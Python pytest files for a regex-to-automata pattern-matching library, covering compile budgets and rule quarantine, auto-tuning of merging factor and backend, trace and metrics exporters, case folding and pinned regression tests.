        payload = compilation.quarantine.to_dict()
        assert payload["quarantined"][0]["rule"] == 1
        assert compilation.quarantine.summary_lines()


class TestGroupEviction:
    """Both halves pass alone but the union blows the budget: the
    heaviest rule is evicted, salvaged solo, and matched via fallback."""

    PATTERNS = ["abcd", "wxyz!"]

    @classmethod
    def _group_budget(cls):
        """The tightest state budget the pair blows but each solo fits.

        Charged states include NFA construction and merge output, so the
        threshold is probed empirically rather than modelled."""

        def minimal(patterns):
            need = 1
            while True:
                try:
                    compile_ruleset(patterns, CompileOptions(budget=Budget(max_states=need)))
                    return need
                except BudgetExceeded:
                    need += 1

        pair_needs = minimal(cls.PATTERNS)
        assert all(minimal([p]) < pair_needs for p in cls.PATTERNS)
        return Budget(max_states=pair_needs - 1)

    def test_eviction_salvages_a_fallback(self):
        compilation = GuardedCompiler(budget=self._group_budget()).compile(self.PATTERNS)
        assert compilation.partial
        [entry] = compilation.quarantine.entries
        assert entry.evicted
        assert entry.rule == 1  # the longer pattern is the size proxy
        assert entry.fallback_fsa is not None
        assert "group compile failed" in entry.message

    def test_fallback_preserves_match_semantics(self):
        compilation = GuardedCompiler(budget=self._group_budget()).compile(self.PATTERNS)
        matcher = GuardedMatcher.from_compilation(compilation)
        run = matcher.run(b"..abcd..wxyz!..")
        assert run.matches == {(0, 6), (1, 13)}
        assert run.fallback_rules == [1]


class TestGuardedMatcher:
    def test_unknown_backend_is_usage_error(self):
        with pytest.raises(UsageError):
            GuardedMatcher([], backend="gpu")

    def test_trivial_case_matches_plain_engine(self):
        result = compile_ruleset(["abc", "abd"])
        matcher = GuardedMatcher(result.mfsas)
        run = matcher.run(b"zzabczzabdzz")
        plain = IMfantEngine(result.mfsas[0]).run(b"zzabczzabdzz").matches
        assert run.matches == plain
        assert run.degradations == []


class TestCliExitCodes:
    RULES = "abc\nx{5000}\nabd\n"

    def test_quarantine_exits_partial(self, tmp_path, capsys):
        from repro.cli import compile_main

        rules = tmp_path / "r.txt"
        rules.write_text(self.RULES)
        code = compile_main([str(rules), "-o", str(tmp_path / "out"),
                             "--budget-loop-copies", "256",
                             "--on-error", "quarantine"])
        assert code == EXIT_PARTIAL
        captured = capsys.readouterr()
        assert "quarantined 1 of 3 rule(s)" in captured.out
        assert "warning: rule 1 quarantined" in captured.err

    def test_fail_mode_exits_budget(self, tmp_path, capsys):
        from repro.cli import compile_main

        rules = tmp_path / "r.txt"
        rules.write_text(self.RULES)
        code = compile_main([str(rules), "-o", str(tmp_path / "out"),
                             "--budget-loop-copies", "256"])
        assert code == EXIT_BUDGET
        assert "error: ast_to_fsa:" in capsys.readouterr().err

    def test_match_quarantine_remaps_and_exits_partial(self, tmp_path, capsys):
        from repro.cli import match_main

        rules = tmp_path / "r.txt"
        rules.write_text(self.RULES)
        stream = tmp_path / "s.bin"
        stream.write_bytes(b"zzabczzzabdzz")
        code = match_main([str(stream), "--ruleset", str(rules),
                           "--budget-loop-copies", "256",
                           "--on-error", "quarantine"])
        assert code == EXIT_PARTIAL
        out = capsys.readouterr().out
        assert "rule 0 matched" in out and "rule 2 matched" in out
