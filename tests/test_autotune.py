"""Tests for merging-factor auto-tuning."""

import pytest

from repro.datasets import generate_ruleset, generate_stream, get_profile
from repro.engine.imfant import IMfantEngine
from repro.pipeline.autotune import autotune_merging_factor
from repro.pipeline.compiler import CompileOptions, compile_ruleset


@pytest.fixture(scope="module")
def workload():
    ruleset = generate_ruleset(get_profile("TCP").scaled(15))
    sample = generate_stream(ruleset, 768)
    return ruleset, sample


class TestAutotune:
    def test_selects_a_candidate(self, workload):
        ruleset, sample = workload
        report = autotune_merging_factor(ruleset.patterns, sample,
                                         candidates=(1, 2, 5, 0))
        assert report.best in report.candidates
        assert {c.merging_factor for c in report.candidates} == {1, 2, 5, 0}

    def test_single_thread_prefers_heavy_merging(self, workload):
        """On one thread the per-automaton dispatch dominates: the winner
        is M=all (the paper's single-thread Fig. 9 conclusion)."""
        ruleset, sample = workload
        report = autotune_merging_factor(ruleset.patterns, sample, threads=1,
                                         candidates=(1, 2, 0))
        assert report.best.merging_factor == 0

    def test_many_threads_never_pick_no_merging(self, workload):
        ruleset, sample = workload
        report = autotune_merging_factor(ruleset.patterns, sample, threads=8,
                                         candidates=(1, 5, 0))
        assert report.best.merging_factor != 1

    def test_oversized_factors_alias_with_all(self, workload):
        ruleset, sample = workload
        report = autotune_merging_factor(ruleset.patterns, sample,
                                         candidates=(999, 0, 1000))
        assert len(report.candidates) == 1
        assert report.candidates[0].merging_factor == 0

    def test_render_marks_selection(self, workload):
        ruleset, sample = workload
        report = autotune_merging_factor(ruleset.patterns, sample,
                                         candidates=(1, 0))
        text = report.render()
        assert "<- selected" in text
        assert "M= all" in text or "M=all" in text.replace(" ", "")

    def test_empty_ruleset_rejected(self):
        with pytest.raises(ValueError):
            autotune_merging_factor([], b"data")

    def test_selected_factor_matches_equivalently(self, workload):
        """The tuner only changes performance: compiling at the selected
        factor yields the same matches as the baseline."""
        ruleset, sample = workload
        report = autotune_merging_factor(ruleset.patterns, sample,
                                         candidates=(1, 2, 0))
        chosen = compile_ruleset(
            list(ruleset.patterns),
            CompileOptions(merging_factor=report.best.merging_factor, emit_anml=False),
        )
        baseline = compile_ruleset(
            list(ruleset.patterns), CompileOptions(merging_factor=1, emit_anml=False)
        )
        got = set()
        for mfsa in chosen.mfsas:
            got |= IMfantEngine(mfsa).run(sample).matches
        expected = set()
        for mfsa in baseline.mfsas:
            expected |= IMfantEngine(mfsa).run(sample).matches
        assert got == expected


class TestChooseScanStrategy:
    def test_parallel_budget_picks_mapping(self):
        """With threads to spare, mapping-parallel wins: κ is a small
        constant while the thread budget divides the latency."""
        from repro.mfsa.merge import merge_fsas
        from repro.pipeline.autotune import choose_scan_strategy

        compiled = compile_ruleset(["a.*b", "x.*"], CompileOptions(emit_anml=False))
        mfsa = merge_fsas(compiled.mfsas) if len(compiled.mfsas) > 1 else compiled.mfsas[0]
        report = choose_scan_strategy(mfsa, b"aqqqbxyz" * 400, threads=8,
                                      chunk_size=512)
        assert report.chosen == "sfa"
        assert report.overhead >= 1.0
        assert report.mapping_latency < report.sequential_work

    def test_single_thread_stays_sequential(self):
        """On one thread the mapping scan is pure overhead (κ ≥ 1 with
        no parallelism to pay for it)."""
        from repro.pipeline.autotune import choose_scan_strategy

        compiled = compile_ruleset(["a.*b"], CompileOptions(emit_anml=False))
        report = choose_scan_strategy(compiled.mfsas[0], b"aqqqb" * 600,
                                      threads=1, chunk_size=512)
        assert report.chosen == "sequential"
        assert report.mapping_latency >= report.sequential_work

    def test_render_names_selection(self):
        from repro.pipeline.autotune import choose_scan_strategy

        compiled = compile_ruleset(["ab"], CompileOptions(emit_anml=False))
        report = choose_scan_strategy(compiled.mfsas[0], b"abab" * 100)
        text = report.render()
        assert "selected" in text and ("sfa" in text or "sequential" in text)
