"""Tests for merging-factor auto-tuning."""

import pytest

from repro.datasets import generate_ruleset, generate_stream, get_profile
from repro.engine.imfant import IMfantEngine
from repro.pipeline.autotune import autotune_merging_factor
from repro.pipeline.compiler import CompileOptions, compile_ruleset


@pytest.fixture(scope="module")
def workload():
    ruleset = generate_ruleset(get_profile("TCP").scaled(15))
    sample = generate_stream(ruleset, 768)
    return ruleset, sample


class TestAutotune:
    def test_selects_a_candidate(self, workload):
        ruleset, sample = workload
        report = autotune_merging_factor(ruleset.patterns, sample,
                                         candidates=(1, 2, 5, 0))
        assert report.best in report.candidates
        assert {c.merging_factor for c in report.candidates} == {1, 2, 5, 0}

    def test_single_thread_prefers_heavy_merging(self, workload):
        """On one thread the per-automaton dispatch dominates: the winner
        is M=all (the paper's single-thread Fig. 9 conclusion)."""
        ruleset, sample = workload
        report = autotune_merging_factor(ruleset.patterns, sample, threads=1,
                                         candidates=(1, 2, 0))
        assert report.best.merging_factor == 0

    def test_many_threads_never_pick_no_merging(self, workload):
        ruleset, sample = workload
        report = autotune_merging_factor(ruleset.patterns, sample, threads=8,
                                         candidates=(1, 5, 0))
        assert report.best.merging_factor != 1

    def test_oversized_factors_alias_with_all(self, workload):
        ruleset, sample = workload
        report = autotune_merging_factor(ruleset.patterns, sample,
                                         candidates=(999, 0, 1000))
        assert len(report.candidates) == 1
        assert report.candidates[0].merging_factor == 0

    def test_render_marks_selection(self, workload):
        ruleset, sample = workload
        report = autotune_merging_factor(ruleset.patterns, sample,
                                         candidates=(1, 0))
        text = report.render()
        assert "<- selected" in text
        assert "M= all" in text or "M=all" in text.replace(" ", "")

    def test_empty_ruleset_rejected(self):
        with pytest.raises(ValueError):
            autotune_merging_factor([], b"data")

    def test_selected_factor_matches_equivalently(self, workload):
        """The tuner only changes performance: compiling at the selected
        factor yields the same matches as the baseline."""
        ruleset, sample = workload
        report = autotune_merging_factor(ruleset.patterns, sample,
                                         candidates=(1, 2, 0))
        chosen = compile_ruleset(
            list(ruleset.patterns),
            CompileOptions(merging_factor=report.best.merging_factor, emit_anml=False),
        )
        baseline = compile_ruleset(
            list(ruleset.patterns), CompileOptions(merging_factor=1, emit_anml=False)
        )
        got = set()
        for mfsa in chosen.mfsas:
            got |= IMfantEngine(mfsa).run(sample).matches
        expected = set()
        for mfsa in baseline.mfsas:
            expected |= IMfantEngine(mfsa).run(sample).matches
        assert got == expected


class TestChooseScanStrategy:
    def test_parallel_budget_picks_mapping(self):
        """With threads to spare, mapping-parallel wins: κ is a small
        constant while the thread budget divides the latency."""
        from repro.mfsa.merge import merge_fsas
        from repro.pipeline.autotune import choose_scan_strategy

        compiled = compile_ruleset(["a.*b", "x.*"], CompileOptions(emit_anml=False))
        mfsa = merge_fsas(compiled.mfsas) if len(compiled.mfsas) > 1 else compiled.mfsas[0]
        report = choose_scan_strategy(mfsa, b"aqqqbxyz" * 400, threads=8,
                                      chunk_size=512)
        assert report.chosen == "sfa"
        assert report.overhead >= 1.0
        assert report.mapping_latency < report.sequential_work

    def test_single_thread_stays_sequential(self):
        """On one thread the mapping scan is pure overhead (κ ≥ 1 with
        no parallelism to pay for it)."""
        from repro.pipeline.autotune import choose_scan_strategy

        compiled = compile_ruleset(["a.*b"], CompileOptions(emit_anml=False))
        report = choose_scan_strategy(compiled.mfsas[0], b"aqqqb" * 600,
                                      threads=1, chunk_size=512)
        assert report.chosen == "sequential"
        assert report.mapping_latency >= report.sequential_work

    def test_render_names_selection(self):
        from repro.pipeline.autotune import choose_scan_strategy

        compiled = compile_ruleset(["ab"], CompileOptions(emit_anml=False))
        report = choose_scan_strategy(compiled.mfsas[0], b"abab" * 100)
        text = report.render()
        assert "selected" in text and ("sfa" in text or "sequential" in text)


class TestChooseBackend:
    """Measured backend selection, including the numpy regression guard."""

    @staticmethod
    def _compiled(name):
        from repro.cli import _demo_stream
        from repro.datasets import load_builtin

        patterns = list(load_builtin(name).patterns)
        compiled = compile_ruleset(patterns, CompileOptions(emit_anml=False))
        assert len(compiled.mfsas) == 1
        return compiled.mfsas[0], _demo_stream(patterns, 8192)

    def test_report_structure_and_best_is_fastest(self):
        from repro.pipeline.autotune import choose_backend

        mfsa, sample = self._compiled("tokens_exact")
        report = choose_backend(mfsa, sample, repeats=1)
        assert report.sample_bytes == len(sample)
        assert {c.backend for c in report.candidates} == {
            "dense", "lazy", "numpy", "python",
        }
        timed = [c for c in report.candidates if c.measured_seconds is not None]
        assert report.best in timed
        assert report.best.measured_seconds == min(
            c.measured_seconds for c in timed
        )
        assert report.best.throughput is not None
        assert all(c.modelled_cost > 0 for c in report.candidates)

    def test_numpy_not_selected_on_sparse_activation(self):
        """The BENCH_lazy regression: numpy ran 0.59x python on
        dotstar_rules.  Both the measurement and the per-backend cost
        model must now keep numpy from being selected there."""
        from repro.engine.cost import CostModel
        from repro.engine.imfant import IMfantEngine as Engine
        from repro.pipeline.autotune import choose_backend

        mfsa, sample = self._compiled("dotstar_rules")
        report = choose_backend(mfsa, sample, backends=("python", "numpy"),
                                repeats=2)
        assert report.best.backend != "numpy"

        # The model agrees: sparse activation means the fixed per-char
        # dispatch overhead dominates and numpy costs more than python.
        stats = Engine(mfsa, backend="lazy").run(sample).stats
        model = CostModel()
        assert model.backend_run_cost(stats, "numpy") > model.backend_run_cost(
            stats, "python"
        )

    def test_backend_run_cost_rejects_unknown_backend(self):
        from repro.engine.cost import CostModel
        from repro.engine.counters import ExecutionStats

        with pytest.raises(ValueError):
            CostModel().backend_run_cost(ExecutionStats(), "fortran")

    def test_render_marks_selection(self):
        from repro.pipeline.autotune import choose_backend

        mfsa, sample = self._compiled("tokens_exact")
        report = choose_backend(mfsa, sample, backends=("lazy", "python"),
                                repeats=1)
        text = report.render()
        assert "<- selected" in text
        assert "lazy" in text and "python" in text
