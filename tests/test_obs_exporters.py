"""Unit tests for the exporters (repro.obs.exporters)."""

from __future__ import annotations

import json

import repro.obs as obs
from repro.obs.spans import Tracer


def _sample_tracer() -> Tracer:
    tracer = Tracer()
    with tracer.span("compile", rules=3):
        with tracer.span("compile.frontend"):
            pass
        with tracer.span("compile.merging", mfsas=1):
            pass
    return tracer


def test_jsonl_one_object_per_line_sorted_by_start():
    tracer = _sample_tracer()
    text = obs.spans_to_jsonl(tracer)
    lines = text.strip().splitlines()
    assert len(lines) == 3
    rows = [json.loads(line) for line in lines]
    assert [r["name"] for r in rows] == ["compile", "compile.frontend", "compile.merging"]
    starts = [r["start"] for r in rows]
    assert starts == sorted(starts)
    assert rows[0]["attributes"] == {"rules": 3}


def test_jsonl_empty_tracer():
    assert obs.spans_to_jsonl(Tracer()) == ""


def test_chrome_trace_shape_and_types():
    tracer = _sample_tracer()
    trace = obs.spans_to_chrome_trace(tracer)
    assert set(trace) == {"traceEvents", "displayTimeUnit", "otherData"}
    assert trace["displayTimeUnit"] == "ms"
    events = trace["traceEvents"]
    x_events = [e for e in events if e["ph"] == "X"]
    m_events = [e for e in events if e["ph"] == "M"]
    assert len(x_events) == 3
    assert len(m_events) == 1  # one thread lane
    for event in x_events:
        assert isinstance(event["name"], str)
        assert isinstance(event["ts"], (int, float)) and event["ts"] >= 0
        assert isinstance(event["dur"], (int, float)) and event["dur"] >= 0
        assert isinstance(event["pid"], int)
        assert isinstance(event["tid"], int)
        assert isinstance(event["args"], dict)
        assert "cpu_ms" in event["args"]
        assert event["cat"] == event["name"].split(".", 1)[0]
    for event in m_events:
        assert event["name"] == "thread_name"
        assert isinstance(event["args"]["name"], str)
    # the whole document is JSON-serialisable
    json.dumps(trace)


def test_chrome_trace_children_nest_within_parent_interval():
    tracer = _sample_tracer()
    trace = obs.spans_to_chrome_trace(tracer)
    events = {e["name"]: e for e in trace["traceEvents"] if e["ph"] == "X"}
    parent = events["compile"]
    for name in ("compile.frontend", "compile.merging"):
        child = events[name]
        assert child["ts"] >= parent["ts"] - 1e-3
        assert child["ts"] + child["dur"] <= parent["ts"] + parent["dur"] + 1e-3


def test_chrome_trace_attribute_coercion():
    tracer = Tracer()
    with tracer.span("x", items=(1, 2), mapping={"k": "v"}, obj=object()):
        pass
    (event,) = [e for e in obs.spans_to_chrome_trace(tracer)["traceEvents"] if e["ph"] == "X"]
    assert event["args"]["items"] == [1, 2]
    assert event["args"]["mapping"] == {"k": "v"}
    assert isinstance(event["args"]["obj"], str)


def test_prometheus_counter_gauge_exposition():
    registry = obs.MetricsRegistry()
    registry.counter("requests_total", help="total requests").inc(5)
    registry.gauge("depth").set(2.5)
    text = obs.metrics_to_prometheus(registry)
    assert "# HELP requests_total total requests" in text
    assert "# TYPE requests_total counter" in text
    assert "\nrequests_total 5\n" in text
    assert "# TYPE depth gauge" in text
    assert "\ndepth 2.5" in text


def test_prometheus_histogram_exposition_cumulative():
    registry = obs.MetricsRegistry()
    h = registry.histogram("sizes", bounds=(1, 4))
    for v in (0, 2, 9):
        h.observe(v)
    text = obs.metrics_to_prometheus(registry)
    lines = text.splitlines()
    assert '# TYPE sizes histogram' in lines
    assert 'sizes_bucket{le="1"} 1' in lines
    assert 'sizes_bucket{le="4"} 2' in lines
    assert 'sizes_bucket{le="+Inf"} 3' in lines
    assert "sizes_sum 11" in lines
    assert "sizes_count 3" in lines
    # cumulative counts never decrease
    values = [int(line.rsplit(" ", 1)[1]) for line in lines if line.startswith("sizes_bucket")]
    assert values == sorted(values)


def test_prometheus_empty_registry():
    assert obs.metrics_to_prometheus(obs.MetricsRegistry()) == ""


def test_file_writers(tmp_path):
    tracer = _sample_tracer()
    registry = obs.MetricsRegistry()
    registry.counter("c").inc()

    trace_path = obs.write_chrome_trace(tracer, tmp_path / "trace.json")
    jsonl_path = obs.write_jsonl(tracer, tmp_path / "spans.jsonl")
    prom_path = obs.write_prometheus(registry, tmp_path / "metrics.prom")

    loaded = json.loads(trace_path.read_text())
    assert "traceEvents" in loaded
    assert len(jsonl_path.read_text().strip().splitlines()) == 3
    assert "c 1" in prom_path.read_text()
