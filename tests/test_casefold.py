"""Tests for compile-time case folding (nocase matching)."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.automata.optimize import OptimizeOptions, compile_re_to_fsa
from repro.automata.simulate import accepts, find_match_ends
from repro.frontend.casefold import fold_case, fold_charclass
from repro.frontend.parser import parse
from repro.labels import CharClass

NOCASE = OptimizeOptions(case_insensitive=True)


class TestFoldCharclass:
    def test_lower_gains_upper(self):
        folded = fold_charclass(CharClass.single("a"))
        assert "a" in folded and "A" in folded
        assert len(folded) == 2

    def test_upper_gains_lower(self):
        folded = fold_charclass(CharClass.single("Z"))
        assert "z" in folded and "Z" in folded

    def test_nonletters_untouched(self):
        cc = CharClass.from_chars("0_ !")
        assert fold_charclass(cc) == cc

    def test_mixed_range(self):
        folded = fold_charclass(CharClass.from_range("x", "z"))
        assert all(c in folded for c in "xyzXYZ")

    def test_idempotent(self):
        cc = CharClass.from_chars("aB9")
        assert fold_charclass(fold_charclass(cc)) == fold_charclass(cc)

    def test_bytes_above_ascii_untouched(self):
        cc = CharClass.from_chars([0xE9, 0xC9])  # é/É in latin-1: not folded
        assert fold_charclass(cc) == cc


class TestFoldCase:
    def test_structure_preserved(self):
        node = fold_case(parse("a(b|C)+d"))
        assert node.pattern().lower().replace("[", "").replace("]", "") != ""
        fsa = compile_re_to_fsa("a(b|C)+d", NOCASE)
        assert accepts(fsa, "AbCd") and accepts(fsa, "aBcD")

    def test_case_sensitive_default(self):
        fsa = compile_re_to_fsa("abc")
        assert not accepts(fsa, "ABC")

    @pytest.mark.parametrize("pattern,text", [
        ("select", "SELECT"),
        ("User-Agent", "uSeR-aGeNt"),
        ("[a-f]{3}", "AbF"),
        ("get|post", "GET"),
    ])
    def test_nocase_matches(self, pattern, text):
        fsa = compile_re_to_fsa(pattern, NOCASE)
        assert accepts(fsa, text), (pattern, text)


@given(st.text(alphabet="aAbB01", min_size=1, max_size=8),
       st.text(alphabet="aAbB01", max_size=16))
@settings(max_examples=150, deadline=None)
def test_agrees_with_re_ignorecase(pattern_text, text):
    """On literal patterns, nocase matching equals re.IGNORECASE."""
    pattern = re.escape(pattern_text)
    fsa = compile_re_to_fsa(pattern.replace("\\", "\\"), NOCASE)
    oracle = re.compile(f"(?:{pattern})\\Z", re.IGNORECASE)
    assert accepts(fsa, text) == bool(oracle.match(text))


@given(st.text(alphabet="xyXY", max_size=14))
@settings(max_examples=100, deadline=None)
def test_stream_matching_ignorecase(text):
    pattern = "xy+"
    fsa = compile_re_to_fsa(pattern, NOCASE)
    oracle = re.compile("(?:xy+)\\Z", re.IGNORECASE)
    expected = {
        end for end in range(len(text) + 1)
        for start in range(end + 1) if oracle.match(text, start, end)
    }
    assert find_match_ends(fsa, text) == expected
