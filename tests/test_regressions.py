"""Pinned regressions: bugs found and fixed during development.

Each test reproduces a specific defect's trigger so the fix cannot
silently regress.  The docstrings record the original failure mode.
"""

from repro.automata.optimize import compile_re_to_fsa
from repro.automata.simulate import find_match_ends
from repro.anml import read_anml, write_anml
from repro.engine.imfant import IMfantEngine
from repro.mfsa.activation import reference_match
from repro.mfsa.merge import merge_fsas

from conftest import compile_ruleset_fsas, mfsa_equal


class TestMergerSelfLoopBinding:
    """The consistent-mapping pass originally checked each of a tuple's
    two bindings against the committed map but not against *each other*:
    a self-loop on one side matched to a plain arc on the other corrupted
    injectivity and broke per-rule projection isomorphism."""

    def test_selfloop_vs_plain_arc(self):
        # (a)* has a self-loop; 'aa' a plain 2-state chain over the same
        # label — the walk pairs them and must not collapse the chain.
        patterns = ["(a)*b", "aab"]
        fsas = compile_ruleset_fsas(patterns)
        mfsa = merge_fsas(fsas)
        from repro.mfsa.model import validate_projections

        validate_projections(mfsa, dict(fsas))
        text = "aab ab b aaab"
        expected = set()
        for rule, fsa in fsas:
            expected |= {(rule, e) for e in find_match_ends(fsa, text)}
        assert reference_match(mfsa, text) == expected


class TestAnmlStartArcLoss:
    """The first ANML reader lost arcs whose source state had no incoming
    arcs: pure initial states have no STE split, so their out-arcs only
    existed as start marks.  <start-on-input> extension records fixed it."""

    def test_initial_only_source_arcs_roundtrip(self):
        # rule 0's initial has no incoming arc; its out-arc is shared
        mfsa = merge_fsas(compile_ruleset_fsas(["ba", "bc"]))
        assert mfsa_equal(mfsa, read_anml(write_anml(mfsa)))

    def test_star_heavy_pattern_roundtrip(self):
        # the original trigger shape: nested stars + tiny alternations
        mfsa = merge_fsas(compile_ruleset_fsas(["(((b)*)*)*", "d", "((c)*|a)"]))
        assert mfsa_equal(mfsa, read_anml(write_anml(mfsa)))


class TestMapAstSmartConstructors:
    """map_ast originally rebuilt nodes with raw constructors, so a
    Repeat expanded to Empty stayed embedded in a Concat: a{0}b failed to
    normalise to b."""

    def test_zero_repeat_normalises(self):
        from repro.automata.loops import expand_loops
        from repro.frontend.parser import parse

        assert expand_loops(parse("a{0}b")) == parse("b")

    def test_all_empty_concat(self):
        from repro.automata.loops import expand_loops
        from repro.frontend.ast import Empty
        from repro.frontend.parser import parse

        assert expand_loops(parse("a{0}b{0}")) == Empty()


class TestDfaOffsetZeroMatches:
    """The DFA engines originally missed offset-0 matches of ε-accepting
    rules (their final sits inside the seed subset, reported only after
    consuming a byte)."""

    def test_epsilon_rule_matches_at_zero(self):
        from repro.dfa import DfaEngine, determinize

        dfa = determinize(compile_ruleset_fsas(["a*"]))
        assert (0, 0) in DfaEngine(dfa).run(b"").matches


class TestNumpyPopOnFinalLimbs:
    """pop_on_final in the numpy backend originally deduplicated clears
    per *state*, skipping the second limb when one state's hits spanned
    multiple 64-bit words."""

    def test_multi_limb_pop(self):
        # >64 rules all sharing a final state exercises multi-limb hits
        patterns = [f"a{chr(98 + i % 24)}" for i in range(70)]
        mfsa = merge_fsas(compile_ruleset_fsas(list(dict.fromkeys(patterns))))
        text = "ab ac ad"
        py = IMfantEngine(mfsa, "python", pop_on_final=True).run(text).matches
        np_ = IMfantEngine(mfsa, "numpy", pop_on_final=True).run(text).matches
        assert py == np_


class TestRequiredLiteralRuns:
    """required_literals originally returned single characters for
    concatenations (parse flattening makes each char its own part), so
    foo.*barbar produced factor 'f' instead of 'barbar'."""

    def test_long_factor_extracted(self):
        from repro.frontend.analysis import required_literals
        from repro.frontend.parser import parse

        req = required_literals(parse("foo.*barbar"))
        assert "barbar" in req.literals

    def test_optional_prefix_not_diluting(self):
        from repro.frontend.analysis import required_literals
        from repro.frontend.parser import parse

        assert required_literals(parse("(abc)?x")).literals == frozenset({"x"})


class TestMultiplicityNeedsSuffixMerge:
    """Thompson + ε-removal alone never yields parallel arcs between one
    state pair; without the suffix state merge the multiplicity pass was
    a no-op and the Fig. 5b [kh] fusion never happened."""

    def test_kh_fusion_happens_in_pipeline(self):
        from repro.labels import CharClass

        fsa = compile_re_to_fsa("(k|h)bc")
        labels = {t.label.mask for t in fsa.transitions}
        assert CharClass.from_chars("kh").mask in labels
