"""Unit tests for the span tracer (repro.obs.spans)."""

from __future__ import annotations

import threading

import pytest

import repro.obs as obs
from repro.obs.spans import NOOP_SPAN, Span, Tracer


def test_basic_span_records_duration_and_attributes():
    tracer = Tracer()
    with tracer.span("work", kind="test") as sp:
        sp.set(extra=42)
    spans = tracer.spans()
    assert [s.name for s in spans] == ["work"]
    done = spans[0]
    assert done.closed
    assert done.duration >= 0.0
    assert done.cpu_time >= 0.0
    assert done.attributes == {"kind": "test", "extra": 42}
    assert done.parent_id is None
    tracer.validate()


def test_nesting_is_automatic_within_a_thread():
    tracer = Tracer()
    with tracer.span("outer") as outer:
        with tracer.span("inner") as inner:
            with tracer.span("leaf"):
                pass
    by_name = {s.name: s for s in tracer.spans()}
    assert by_name["inner"].parent_id == outer.span_id
    assert by_name["leaf"].parent_id == inner.span_id
    assert by_name["outer"].parent_id is None
    assert tracer.roots() == [by_name["outer"]]
    assert tracer.children(by_name["outer"]) == [by_name["inner"]]
    tracer.validate()


def test_siblings_do_not_nest():
    tracer = Tracer()
    with tracer.span("root"):
        with tracer.span("a"):
            pass
        with tracer.span("b"):
            pass
    by_name = {s.name: s for s in tracer.spans()}
    assert by_name["a"].parent_id == by_name["root"].span_id
    assert by_name["b"].parent_id == by_name["root"].span_id


def test_explicit_parent_overrides_stack():
    tracer = Tracer()
    with tracer.span("root") as root:
        with tracer.span("intermediate"):
            with tracer.span("adopted", parent=root):
                pass
    by_name = {s.name: s for s in tracer.spans()}
    assert by_name["adopted"].parent_id == root.span_id


def test_exception_marks_error_and_closes_span():
    tracer = Tracer()
    with pytest.raises(RuntimeError):
        with tracer.span("boom"):
            raise RuntimeError("kaput")
    (span,) = tracer.spans()
    assert span.closed
    assert span.status == "error"
    assert "kaput" in span.attributes["error"]
    tracer.validate()


def test_error_propagates_through_nested_spans():
    tracer = Tracer()
    with pytest.raises(ValueError):
        with tracer.span("outer"):
            with tracer.span("inner"):
                raise ValueError("deep")
    by_name = {s.name: s for s in tracer.spans()}
    assert by_name["inner"].status == "error"
    assert by_name["outer"].status == "error"
    assert not tracer.open_spans()


def test_cross_thread_spans_with_explicit_parent():
    tracer = Tracer()
    with tracer.span("pool") as pool_span:

        def worker(i: int) -> None:
            with tracer.span("worker", parent=pool_span, i=i):
                pass

        threads = [threading.Thread(target=worker, args=(i,)) for i in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    workers = [s for s in tracer.spans() if s.name == "worker"]
    assert len(workers) == 4
    assert {w.parent_id for w in workers} == {pool_span.span_id}
    assert len({w.thread_id for w in workers}) >= 1
    tracer.validate()


def test_concurrent_recording_is_thread_safe():
    tracer = Tracer()

    def hammer(tid: int) -> None:
        for i in range(50):
            with tracer.span(f"t{tid}", i=i):
                pass

    threads = [threading.Thread(target=hammer, args=(t,)) for t in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(tracer.spans()) == 400
    assert len({s.span_id for s in tracer.spans()}) == 400
    tracer.validate()


def test_validate_flags_unclosed_spans():
    tracer = Tracer()
    ctx = tracer.span("open")
    ctx.__enter__()
    with pytest.raises(ValueError, match="unclosed"):
        tracer.validate()
    ctx.__exit__(None, None, None)
    tracer.validate()


def test_disabled_module_span_is_shared_noop():
    obs.disable()
    assert obs.span("anything") is NOOP_SPAN
    with obs.span("anything", a=1) as sp:
        assert sp is NOOP_SPAN
        assert sp.set(b=2) is sp  # chainable, records nothing
    assert NOOP_SPAN.attributes == {}
    assert obs.get_tracer() is None


def test_enable_disable_roundtrip():
    tracer, registry = obs.enable()
    try:
        assert obs.get_tracer() is tracer
        assert obs.get_registry() is registry
        with obs.span("visible"):
            pass
        assert [s.name for s in tracer.spans()] == ["visible"]
    finally:
        obs.disable()
    assert obs.get_tracer() is None
    assert not obs.is_enabled()


def test_capture_restores_previous_state():
    assert obs.get_tracer() is None
    with obs.capture() as outer:
        with obs.span("outer-span"):
            with obs.capture() as inner:
                with obs.span("inner-span"):
                    pass
            # inner capture popped: outer tracer active again
            assert obs.get_tracer() is outer.tracer
        assert [s.name for s in inner.tracer.spans()] == ["inner-span"]
    assert obs.get_tracer() is None
    assert [s.name for s in outer.tracer.spans()] == ["outer-span"]


def test_capture_stride_override_is_scoped():
    before = obs.sample_stride()
    with obs.capture(stride=7):
        assert obs.sample_stride() == 7
    assert obs.sample_stride() == before


def test_tree_lines_and_iter_tree():
    tracer = Tracer()
    with tracer.span("root"):
        with tracer.span("child", k="v"):
            pass
    lines = tracer.tree_lines()
    assert len(lines) == 2
    assert lines[0].lstrip().startswith("root")
    assert lines[1].startswith("  ")  # indented child
    assert "k=v" in lines[1]
    depths = [(depth, s.name) for depth, s in obs.iter_tree(tracer)]
    assert depths == [(0, "root"), (1, "child")]


def test_span_to_dict_is_json_shaped():
    tracer = Tracer()
    with tracer.span("x", n=1):
        pass
    row = tracer.spans()[0].to_dict()
    for key in ("name", "span_id", "parent_id", "thread_id", "thread_name",
                "start", "end", "duration", "cpu_time", "status", "attributes"):
        assert key in row
    assert row["status"] == "ok"
    assert row["attributes"] == {"n": 1}
