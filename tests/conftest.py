"""Shared fixtures and helpers for the test suite.

The hypothesis strategies live in the *public* :mod:`repro.testing`
module (they are part of the library's API for downstream fuzzing); this
conftest re-exports them under the names the tests use.
"""

from __future__ import annotations

import os

import pytest
from hypothesis import settings as hypothesis_settings

import repro.obs as obs
from repro.automata.optimize import compile_re_to_fsa
from repro.guard import faultinject
from repro.obs import metrics as obs_metrics
from repro.obs import spans as obs_spans

# Hypothesis baseline profile (per-test @settings still override it).
hypothesis_settings.register_profile("default", deadline=None)
# Derandomized twin: REPRO_TEST_DETERMINISTIC=1 makes hypothesis replay
# the same example sequence every run (bisection / flake triage).
hypothesis_settings.register_profile("deterministic", deadline=None, derandomize=True)
hypothesis_settings.load_profile(
    "deterministic" if os.environ.get("REPRO_TEST_DETERMINISTIC") else "default"
)

#: Example count for the dedicated soak tests (tests/test_soak.py):
#: REPRO_SOAK_EXAMPLES=2000 turns them into a long confidence run.
